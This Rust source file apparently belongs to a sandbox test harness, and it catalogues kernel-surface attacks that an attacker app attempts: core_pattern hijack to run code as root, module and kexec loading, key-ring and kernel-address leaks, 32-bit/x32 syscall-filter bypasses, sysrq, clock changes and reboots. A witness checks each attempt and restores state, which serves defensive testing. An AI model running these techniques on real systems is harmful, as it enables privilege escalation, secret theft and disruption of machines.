//! The kernel's surface: calls that reach code which no app needs.

use std::fs;

use libc::{
    SYS_bpf, SYS_io_setup, SYS_io_uring_setup, SYS_keyctl, SYS_perf_event_open, SYS_reboot, SYS_syslog,
};
use nix::errno::Errno;

use super::files::char_node;
use crate::attack::{claim, claim_from};
use crate::call::{HERE, Outcome, at, call, errno, into, text};
use crate::catalogue::Attack;
use crate::order::Order;
use crate::witness::World;
use crate::witness::scene::Scene;
use crate::witness::scenes::{AIO, LOG_READ, OS_FILE_READ, changes, holds, kernel_log};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "bpf",
        goal: "Has a program or map of the kernel's BPF machine",
        scene: holds("anon_inode:bpf", "a process of the attacker holds a descriptor of BPF"),
        run: |_| {
            // A map: array, keys of 4 bytes, values of 8, one place.
            let attributes = [2u32, 4, 8, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
            call(SYS_bpf, &[0, at(&attributes), size_of_val(&attributes)]).map(drop)
        },
    },
    Attack {
        name: "io-uring",
        goal: "Has a ring of io_uring, which reaches around every filter of calls",
        scene: holds("anon_inode:[io_uring]", "a process of the attacker holds a descriptor of io_uring"),
        run: |_| {
            let mut parameters = [0u32; 30];
            call(SYS_io_uring_setup, &[4, into(&mut parameters)]).map(drop)
        },
    },
    Attack {
        name: "perf-event",
        goal: "Has a counter of the kernel's performance events",
        scene: holds(
            "anon_inode:[perf_event]",
            "a process of the attacker holds a descriptor of a performance event",
        ),
        run: |_| {
            let mut attributes = [0u64; 16];
            // Software event, 128 bytes of attributes; the processor's clock.
            attributes[0] = 1 | (128 << 32);
            call(SYS_perf_event_open, &[at(&attributes), 0, usize::MAX, usize::MAX, 0]).map(drop)
        },
    },
    Attack {
        name: "asynchronous-io",
        goal: "Has a context of the kernel's old asynchronous I/O",
        scene: AIO,
        run: |_| {
            let mut context = 0usize;
            call(SYS_io_setup, &[4, into(&mut context)]).map(drop)
        },
    },
    Attack {
        name: "key-ring",
        goal: "Reads a key of root out of the kernel's key rings",
        scene: KEY_READ,
        run: read_key,
    },
    Attack {
        name: "fanotify",
        goal: "Is told by the kernel of every file that anybody opens",
        scene: holds("anon_inode:[fanotify]", "a process of the attacker holds a descriptor of fanotify"),
        run: |_| call(libc::SYS_fanotify_init, &[0, 0]).map(drop),
    },
    Attack {
        name: "open-by-handle",
        goal: "Opens the root of its data's filesystem by a handle that it made up, and reads a file of the OS",
        scene: OS_FILE_READ,
        run: open_by_handle,
    },
    Attack {
        name: "module",
        goal: "Loads a module into the kernel",
        scene: Scene::new("the kernel has the attacker's module", |_, _| {
            fs::read_to_string("/proc/modules").unwrap_or_default().contains("test_module")
        })
        .restore(|_, _| {
            let name = text("test_module");
            let _ = call(libc::SYS_delete_module, &[name.as_ptr() as usize, 0]);
        }),
        run: load_module,
    },
    Attack {
        name: "kexec",
        goal: "Loads another kernel to jump into",
        scene: Scene::new("the kernel has another one loaded", |_, _| {
            fs::read_to_string("/sys/kernel/kexec_loaded").is_ok_and(|text| text.trim() == "1")
        })
        .restore(|_, _| {
            let _ = call(libc::SYS_kexec_load, &[0, 0, 0, KEXEC_FLAGS]);
        }),
        run: kexec,
    },
    Attack {
        name: "kernel-log-call",
        goal: "Reads the kernel's log with syslog(2)",
        scene: LOG_READ,
        run: |order| {
            const READ_ALL: usize = 3;
            let mut bytes = vec![0u8; 128 * 1024];
            let length = call(SYS_syslog, &[READ_ALL, into(bytes.as_mut_slice()), bytes.len()])?;
            claim_from(order, bytes.get(..length).unwrap_or_default())
        },
    },
    Attack {
        name: "kernel-addresses",
        goal: "Learns at which address a function of the kernel lies",
        scene: ADDRESS,
        run: |order| {
            let _ = fs::write("/proc/sys/kernel/kptr_restrict", "0");
            let text = fs::read_to_string("/proc/kallsyms").map_err(|error| errno(&error))?;
            let line = text.lines().find(|line| line.ends_with(" T _text") || line.ends_with(" T _stext"));
            let address = line.and_then(|line| line.split(' ').next()).ok_or(Errno::ENODATA)?;
            let padded = format!("{address:0>16}");
            let _ = order;
            claim(padded.get(4..).unwrap_or_default().as_bytes())
        },
    },
    Attack {
        name: "debugfs",
        goal: "Mounts the kernel's debugging files",
        scene: Scene::new("debugfs is mounted where the attacker wanted it", |world, _| {
            let hits = world.hits();
            hits.into_iter().any(|pid| {
                let text = fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap_or_default();
                text.lines().any(|line| line.contains(&world.order.token) && line.contains(" - debugfs "))
            })
        }),
        run: |order| {
            let below = order.own_file();
            fs::create_dir(&below).map_err(|error| errno(&error))?;
            super::namespaces::mount("debugfs", &below, "debugfs", 0)
        },
    },
    Attack {
        name: "usermode-helper",
        goal: "Has the kernel itself start a program of the attacker's, as root",
        scene: Scene::new("a process that the kernel started runs the attacker's program", |world, _| {
            crate::witness::started_by_kernel(&world.order.token)
        })
        .plant(|world, _| world.before = fs::read("/proc/sys/kernel/core_pattern").unwrap_or_default())
        .restore(|world, _| drop(fs::write("/proc/sys/kernel/core_pattern", &world.before))),
        run: usermode_helper,
    },
    Attack {
        name: "wall-clock",
        goal: "Sets the clock of the device",
        scene: Scene::new("the clock of the device is another one", |world, _| {
            let saved: i64 = String::from_utf8_lossy(&world.before).parse().unwrap_or(0);
            (seconds() - saved).abs() > 86_400
        })
        .plant(|world, _| world.before = seconds().to_string().into_bytes())
        .restore(|world, _| {
            let saved: i64 = String::from_utf8_lossy(&world.before).parse().unwrap_or(0);
            if (seconds() - saved).abs() > 86_400 {
                let _ = set_clock(saved);
            }
        }),
        run: |_| set_clock(seconds() + 10 * 365 * 86_400),
    },
    Attack {
        name: "sysrq",
        goal: "Gives the kernel a command through /proc/sysrq-trigger",
        scene: Scene::new("the kernel's log has the command's answer", |_, _| {
            kernel_log().contains("sysrq: ")
        }),
        run: |_| {
            let _ = fs::write("/proc/sys/kernel/sysrq", "1");
            fs::write("/proc/sysrq-trigger", "s").map_err(|error| errno(&error))
        },
    },
    Attack {
        name: "core-pattern",
        goal: "Says what the kernel does when a program crashes",
        scene: changes(
            "/proc/sys/kernel/core_pattern",
            "the pattern for memory images of programs is another one",
        ),
        run: |order| fs::write("/proc/sys/kernel/core_pattern", &order.token).map_err(|error| errno(&error)),
    },
    Attack {
        name: "loop-device",
        goal: "Makes a block device out of a file of its own",
        scene: Scene::new("a loop device stands on the attacker's file", |world, _| {
            let entries = fs::read_dir("/sys/block").into_iter().flatten().flatten();
            entries
                .map(|entry| entry.path().join("loop/backing_file"))
                .any(|path| fs::read_to_string(path).is_ok_and(|text| text.contains(&world.order.token)))
        }),
        run: loop_device,
    },
    #[cfg(target_arch = "x86_64")]
    Attack {
        name: "32-bit-entry",
        goal: "Opens a file of the OS through the 32-bit entry, whose numbers a filter may take for others",
        scene: OS_FILE_READ,
        run: x86::int80,
    },
    #[cfg(target_arch = "x86_64")]
    Attack {
        name: "x32-entry",
        goal: "Opens a file of the OS through the x32 numbers of system calls",
        scene: OS_FILE_READ,
        run: x86::x32,
    },
    #[cfg(target_arch = "x86_64")]
    Attack {
        name: "io-ports",
        goal: "Restarts the machine through its ports",
        scene: Scene::new("the machine restarts", |_, _| false),
        run: x86::ports,
    },
    Attack {
        name: "reboot",
        goal: "Restarts the device",
        scene: Scene::new("the machine restarts", |_, _| false),
        run: |_| call(SYS_reboot, &[0xfee1_dead, 0x2812_1969, 0x0123_4567, 0]).map(drop),
    },
];

const KEY_DESCRIPTION: &str = "nacre-attack-key";
/// `KEY_SPEC_USER_KEYRING`.
const USER_KEYRING: usize = -4i32 as usize;

/// The witness keeps a key in the key ring of root.
const KEY_READ: Scene =
    Scene::new("a process of the attacker knows the secret that the witness planted there", |world, _| {
        world.is_claimed()
    })
    .plant(|world: &mut World, _| {
        let secret = format!("{}{}", world.order.mark(), world.secret);
        let (kind, name) = (text("user"), text(KEY_DESCRIPTION));
        let key = call(
            libc::SYS_add_key,
            &[
                kind.as_ptr() as usize,
                name.as_ptr() as usize,
                secret.as_ptr() as usize,
                secret.len(),
                USER_KEYRING,
            ],
        );
        if let Ok(key) = key {
            const SET_PERMISSIONS: usize = 5;
            let _ = call(SYS_keyctl, &[SET_PERMISSIONS, key, 0x3f3f_3f3f]);
            world.fact("key", &key.to_string());
        }
    });

fn read_key(order: &Order) -> Outcome {
    const READ: usize = 11;
    let mut bytes = vec![0u8; 128];
    let length = call(SYS_keyctl, &[READ, order.number("key"), into(bytes.as_mut_slice()), bytes.len()])?;
    claim_from(order, bytes.get(..length).unwrap_or_default())
}

/// The address of the kernel's first instruction, as the witness sees it.
const ADDRESS: Scene =
    Scene::new("a process of the attacker knows the address", |world, _| world.is_claimed()).plant(
        |world, _| {
            let _ = fs::write("/proc/sys/kernel/kptr_restrict", "0");
            let text = fs::read_to_string("/proc/kallsyms").unwrap_or_default();
            let _ = fs::write("/proc/sys/kernel/kptr_restrict", "2");
            let line = text.lines().find(|line| line.ends_with(" T _text") || line.ends_with(" T _stext"));
            if let Some(address) = line.and_then(|line| line.split(' ').next()) {
                world.secret = format!("{address:0>16}").get(4..).unwrap_or_default().to_owned();
            }
        },
    );

/// `struct file_handle` for inode 2, the root of an ext4.
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    inode: u32,
    generation: u32,
}

fn open_by_handle(order: &Order) -> Outcome {
    let own = text(&order.own());
    let mount = call(libc::SYS_openat, &[HERE, own.as_ptr() as usize, libc::O_RDONLY as usize])?;
    let handle = Handle { bytes: 8, kind: 1, inode: 2, generation: 0 };
    let root = call(libc::SYS_open_by_handle_at, &[mount, at(&handle), libc::O_RDONLY as usize])?;
    let path = text("state/attack-secret");
    let file = call(libc::SYS_openat, &[root, path.as_ptr() as usize, libc::O_RDONLY as usize])?;
    let mut bytes = vec![0; 256];
    let length = call(libc::SYS_read, &[file, into(bytes.as_mut_slice()), bytes.len()])?;
    claim_from(order, bytes.get(..length).unwrap_or_default())
}

/// A module for the control kernel lies in the app's image.
fn load_module(_: &Order) -> Outcome {
    let read = |base: &str| fs::read(format!("{base}/app/test_module.ko"));
    let module =
        read("").or_else(|_| read("/run/apps/org.nacre.attacker/root")).map_err(|error| errno(&error))?;
    let none = text("");
    call(libc::SYS_init_module, &[module.as_ptr() as usize, module.len(), none.as_ptr() as usize]).map(drop)
}

/// The architecture, which the kernel wants to hear.
#[cfg(target_arch = "arm")]
const KEXEC_FLAGS: usize = 40 << 16;
/// See above.
#[cfg(not(target_arch = "arm"))]
const KEXEC_FLAGS: usize = 62 << 16;

fn kexec(_: &Order) -> Outcome {
    let code = vec![0u8; 4096];
    // Where the machine has memory.
    let place = if cfg!(target_arch = "arm") { 0x4040_0000usize } else { 0x10_0000 };
    let segment = [code.as_ptr() as usize, code.len(), place, 4096];
    call(libc::SYS_kexec_load, &[place, 1, at(&segment), KEXEC_FLAGS]).map(drop)
}

/// The kernel starts a program for the memory image of one that crashes.
fn usermode_helper(order: &Order) -> Outcome {
    // The kernel resolves the path from its own root, where the attacker's program is known by its image.
    let program = "/run/apps/org.nacre.attacker/root/app/bin/attacker";
    fs::write("/proc/sys/kernel/core_pattern", format!("|{program} stay {}", order.token))
        .map_err(|error| errno(&error))?;
    let limit = libc::rlimit { rlim_cur: libc::RLIM_INFINITY, rlim_max: libc::RLIM_INFINITY };
    // SAFETY: it reads the structure.
    let _ = unsafe { libc::setrlimit(libc::RLIMIT_CORE, &raw const limit) };
    // SAFETY: one thread.
    if let Ok(nix::unistd::ForkResult::Child) = unsafe { nix::unistd::fork() } {
        crate::attack::default_signal(nix::sys::signal::Signal::SIGSEGV);
        let _ = nix::sys::signal::kill(nix::unistd::getpid(), nix::sys::signal::Signal::SIGSEGV);
        std::process::exit(0);
    }
    Ok(())
}

fn seconds() -> i64 {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    now.map_or(0, |now| now.as_secs() as i64)
}

fn set_clock(seconds: i64) -> Outcome {
    let time = nix::sys::time::TimeSpec::new(seconds as _, 0);
    nix::time::clock_settime(nix::time::ClockId::CLOCK_REALTIME, time)
}

fn loop_device(order: &Order) -> Outcome {
    const GET_FREE: usize = 0x4c82;
    const SET_FD: usize = 0x4c00;
    let open = |path: &str| {
        let path = text(path);
        call(libc::SYS_openat, &[HERE, path.as_ptr() as usize, libc::O_RDWR as usize])
    };
    fs::write(order.own_file(), vec![0; 4096]).map_err(|error| errno(&error))?;
    let control = open(&char_node(order, "loop-control", 10, 237)?)?;
    let number = super::files::ioctl(control, GET_FREE, 0)?;
    let device = open(&format!("/dev/loop{number}"))?;
    let file = open(&order.own_file())?;
    super::files::ioctl(device, SET_FD, file).map(drop)
}

#[cfg(target_arch = "x86_64")]
mod x86 {
    use std::arch::asm;

    use nix::errno::Errno;

    use crate::attack::claim_from;
    use crate::call::{HERE, Outcome, call};
    use crate::order::{OS_SECRET, Order};

    /// Memory below 4 GiB.
    fn low() -> Result<&'static mut [u8], Errno> {
        let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT;
        // SAFETY: a new mapping, which is never given back.
        let page = unsafe {
            libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE, flags, -1, 0)
        };
        if page == libc::MAP_FAILED {
            return Err(Errno::last());
        }
        // SAFETY: it has 4096 bytes, and nobody else has it.
        Ok(unsafe { std::slice::from_raw_parts_mut(page.cast(), 4096) })
    }

    /// `int 0x80`: number and three arguments.
    fn entry32(number: u32, a: u32, b: u32, c: u32) -> i32 {
        let result: i32;
        // SAFETY: the kernel changes eax only; rbx is put back. Without the entry this is a fault.
        unsafe {
            asm!(
                "push rbx",
                "mov ebx, {first:e}",
                "int 0x80",
                "pop rbx",
                first = in(reg) a,
                inlateout("eax") number as i32 => result,
                in("ecx") b,
                in("edx") c,
                out("r8") _, out("r9") _, out("r10") _, out("r11") _,
            );
        }
        result
    }

    pub(super) fn int80(order: &Order) -> Outcome {
        const OPEN: u32 = 5;
        const READ: u32 = 3;
        let page = low()?;
        let path = format!("{OS_SECRET}\0");
        page.get_mut(..path.len()).ok_or(Errno::ENOMEM)?.copy_from_slice(path.as_bytes());
        let address = page.as_ptr() as usize as u32;
        let file = entry32(OPEN, address, 0, 0);
        if file < 0 {
            return Err(Errno::from_raw(-file));
        }
        let length = entry32(READ, file as u32, address, 256);
        if length < 0 {
            return Err(Errno::from_raw(-length));
        }
        claim_from(order, page.get(..length as usize).unwrap_or_default())
    }

    pub(super) fn x32(order: &Order) -> Outcome {
        const X32: i64 = 0x4000_0000;
        let path = crate::call::text(OS_SECRET);
        let file = call(X32 + libc::SYS_openat, &[HERE, path.as_ptr() as usize, 0, 0])?;
        let mut bytes = vec![0u8; 256];
        let length = call(X32 + libc::SYS_read, &[file, bytes.as_mut_ptr() as usize, bytes.len()])?;
        claim_from(order, bytes.get(..length).unwrap_or_default())
    }

    pub(super) fn ports(_: &Order) -> Outcome {
        call(libc::SYS_iopl, &[3])?;
        // SAFETY: the port of the chip set that restarts the machine; with iopl it is a plain instruction.
        unsafe { asm!("out dx, al", in("dx") 0xcf9u16, in("al") 0x06u8) };
        Ok(())
    }
}
